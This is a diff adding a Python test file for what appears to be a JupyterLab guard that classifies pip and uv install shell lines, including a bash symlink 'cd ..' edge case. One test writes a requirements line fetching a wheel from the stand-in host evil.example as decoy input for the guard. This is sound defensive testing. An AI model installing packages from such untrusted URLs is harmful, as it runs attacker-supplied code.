@@ -1,0 +1,68 @@
+"""Generated shell lines (src/deps/testdata/shell-lines.json, written by
+scripts/shell-lines-fixture.py) through the kernel's reading and decision: the rules each gives.
+src/deps/shelllines.spec.ts runs the same lines through the static side. Also what the
+fixture cannot carry: a folder reached through a link, checked against bash (red team 7)."""
+
+import json
+import os
+import subprocess
+import tempfile
+from pathlib import Path
+
+import pytest
+
+from jupyterlab_warden.kernel.guard.installs import decide
+from jupyterlab_warden.kernel.guard.installs.data import DepsData
+from jupyterlab_warden.kernel.guard.installs.gate import read_requests
+
+FIXTURE = Path(__file__).resolve().parents[2] / "src" / "deps" / "testdata" / "shell-lines.json"
+DATA = DepsData()
+
+
+def rules_for(line: str) -> list:
+    with tempfile.TemporaryDirectory() as folder:
+        work = Path(folder)
+        (work / "sub").mkdir()
+        (work / "r.txt").write_text("black\n")
+        (work / "sub" / "r.txt").write_text("black\n")
+        env = {"HOME": str(work / "home"), "PIP_CONFIG_FILE": os.devnull}
+        env["XDG_CONFIG_DIRS"] = str(work / "home")
+        requests = read_requests(None, line, env, folder)
+        return sorted({f.rule_id for r in requests for f in decide.decide(r, {}, DATA)})
+
+
+CASES = json.loads(FIXTURE.read_text())["cases"] if FIXTURE.exists() else []
+
+
+@pytest.mark.parametrize("case", CASES, ids=[c["line"][:60] for c in CASES])
+def test_generated_shell_line(case):
+    assert rules_for(case["line"]) == case["rules"]
+
+
+def test_the_fixture_is_there_and_refuses_and_allows():
+    outcomes = {tuple(c["rules"]) for c in CASES}
+    assert len(CASES) == 300 and () in outcomes and ("install-unreadable",) in outcomes
+
+
+URL_LINE = "black @ https://evil.example/black-1.0-py3-none-any.whl\n"
+
+
+def rules_for_in(line, cwd):
+    env = {"HOME": str(cwd), "PIP_CONFIG_FILE": os.devnull}
+    requests = read_requests(None, line, env, str(cwd))
+    return sorted({f.rule_id for r in requests for f in decide.decide(r, {}, DATA)})
+
+
+def test_cd_dotdot_after_a_link_is_read_where_bash_lands(tmp_path):
+    (tmp_path / "elsewhere" / "sub").mkdir(parents=True)
+    (tmp_path / "elsewhere" / "requirements.txt").write_text(URL_LINE)
+    (tmp_path / "requirements.txt").write_text("black\n")
+    (tmp_path / "lnk").symlink_to(tmp_path / "elsewhere" / "sub")
+    where = subprocess.run(
+        ["bash", "-c", "cd lnk; cd ..; pwd"], cwd=tmp_path, capture_output=True, text=True
+    ).stdout.strip()
+    assert where == str(tmp_path)  # bash's cd is logical: `..` undoes the link
+    assert rules_for_in("cd lnk; cd ..; uv pip install -r requirements.txt", tmp_path) == []
+    assert rules_for_in("cd -P lnk; cd ..; uv pip install -r requirements.txt", tmp_path) == [
+        "install-unreadable"
+    ]
